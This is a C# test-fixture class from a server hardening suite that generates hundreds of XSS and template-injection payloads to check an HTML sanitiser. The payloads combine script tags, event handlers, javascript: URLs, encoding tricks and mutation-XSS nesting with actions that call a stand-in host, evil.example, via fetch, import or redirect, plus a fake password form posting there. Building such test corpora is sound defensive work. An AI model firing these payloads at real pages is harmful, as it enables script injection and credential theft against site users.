namespace Guanxi.Server.Tests.Hardening;

/// <summary>
/// Texts that would run, load or redraw something where a page takes text for markup: every way in (element, attribute, address, style, template, comment) × every thing to do, written in the ways that slip through filters.
/// Each carries <see cref="Mark"/> as an attribute, so that one that became an element is found even when the policy stopped what it wanted to do.
/// </summary>
public static class HostileStrings
{
    public const string Mark = "data-hostile";

    private static readonly string[] Deeds = ["window.__hit('{0}')", "alert(`{0}`)", "fetch('//evil.example/{0}')", "document.body.innerHTML='{0}'", "top['al'+'ert']('{0}')", "location='//evil.example/{0}'", "import('//evil.example/{0}')"];

    /// <summary>{0}: what is to be done.</summary>
    private static readonly string[] Ways =
    [
        "<script data-hostile>{0}</script>", "<ScRiPt data-hostile>{0}</sCrIpT>", "<script data-hostile\n>{0}</script\t>", "</script><script data-hostile>{0}</script>", "<script/data-hostile>{0}</script/x>",
        "<img data-hostile src=x onerror=\"{0}\">", "<img data-hostile src=x onerror={0}//", "<IMG DATA-HOSTILE SRC=x ONERROR='{0}'>", "<img data-hostile/src=x/onerror=\"{0}\"/>", "<image data-hostile href=x onerror=\"{0}\">",
        "<svg data-hostile onload=\"{0}\">", "<svg data-hostile><script>{0}</script></svg>", "<svg data-hostile><animate onbegin=\"{0}\" attributeName=x dur=1s>", "<svg data-hostile><foreignObject><iframe onload=\"{0}\"></iframe></foreignObject></svg>",
        "<iframe data-hostile srcdoc=\"<script>{0}</script>\"></iframe>", "<iframe data-hostile src=\"javascript:{0}\"></iframe>", "<object data-hostile data=\"javascript:{0}\"></object>", "<embed data-hostile src=\"javascript:{0}\">",
        "<body data-hostile onload=\"{0}\">", "<details data-hostile open ontoggle=\"{0}\">", "<input data-hostile autofocus onfocus=\"{0}\">", "<video data-hostile><source onerror=\"{0}\"></video>", "<audio data-hostile src=x onerror=\"{0}\">", "<marquee data-hostile onstart=\"{0}\">",
        "<style data-hostile>@keyframes a{{}} *{{animation:a}}</style><b data-hostile onanimationstart=\"{0}\">", "<link data-hostile rel=stylesheet href=\"javascript:{0}\">", "<meta data-hostile http-equiv=refresh content=\"0;url=javascript:{0}\">", "<base data-hostile href=\"javascript:{0}//\">",
        "<form data-hostile action=\"javascript:{0}\"><button autofocus>登录</button></form>", "<form data-hostile action=//evil.example><input name=password placeholder=密码></form>", "<a data-hostile href=\"javascript:{0}\">详情</a>", "<a data-hostile href=\"jav&#x09;ascript:{0}\">详情</a>",
        "javascript:{0}", "JaVaScRiPt:{0}", "java\tscript:{0}", " javascript:{0}", "data:text/html,<script data-hostile>{0}</script>", "vbscript:{0}", "javascript://www.example.com/%0a{0}",
        "\" onmouseover=\"{0}\" data-hostile=\"", "' onfocus='{0}' autofocus data-hostile='", "\"><script data-hostile>{0}</script>", "'><img data-hostile src=x onerror=\"{0}\">", "` onerror=`{0}`", "\\\"><svg data-hostile onload=\"{0}\">",
        "{{{{constructor.constructor(\"{0}\")()}}}}", "${{{0}}}", "#{{{0}}}", "<%= {0} %>", "{{%25 {0} %25}}", "[[{0}]]", "[详情](javascript:{0})", "![x](x\"onerror=\"{0})", "<!--><img data-hostile src=x onerror=\"{0}\">-->", "]]><script data-hostile>{0}</script>", "<![CDATA[<script data-hostile>{0}</script>]]>",
        "<noscript><p title=\"</noscript><img data-hostile src=x onerror={0}>\">", "<math><mtext><table><mglyph><style><img data-hostile src=x onerror=\"{0}\">", "<template data-hostile><script>{0}</script></template>", "<select><option data-hostile><script>{0}</script></option></select>",
        "&lt;script data-hostile&gt;{0}&lt;/script&gt;", "&#60;img data-hostile src=x onerror={0}&#62;", "%3Cscript data-hostile%3E{0}%3C/script%3E", "\\u003cscript data-hostile\\u003e{0}\\u003c/script\\u003e", "\\x3cimg data-hostile src=x onerror={0}\\x3e", "＜script data-hostile＞{0}＜/script＞",
        "+ADw-script data-hostile+AD4-{0}+ADw-/script+AD4-", "<scr<script>ipt data-hostile>{0}</scr</script>ipt>", "<a data-hostile style=\"background:url(javascript:{0})\">", "<div data-hostile style=\"width:expression({0})\">", "\u202e<script data-hostile>{0}</script>", "<x data-hostile onclick=\"{0}\" contenteditable>",
        "=HYPERLINK(\"javascript:{0}\")", "<plaintext data-hostile>{0}", "<title data-hostile></title><script>{0}</script>", "<dialog data-hostile open>{0}</dialog>", "<button data-hostile popovertarget=x onclick=\"{0}\">",
    ];

    /// <summary>Each way with each deed; a number says which one was heard.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        .. Ways.SelectMany((way, at) => Deeds.Select((deed, which) => way.Replace("{0}", deed.Replace("{0}", $"{at}-{which}", StringComparison.Ordinal), StringComparison.Ordinal).Replace("{{", "{", StringComparison.Ordinal).Replace("}}", "}", StringComparison.Ordinal))),
    ];
}
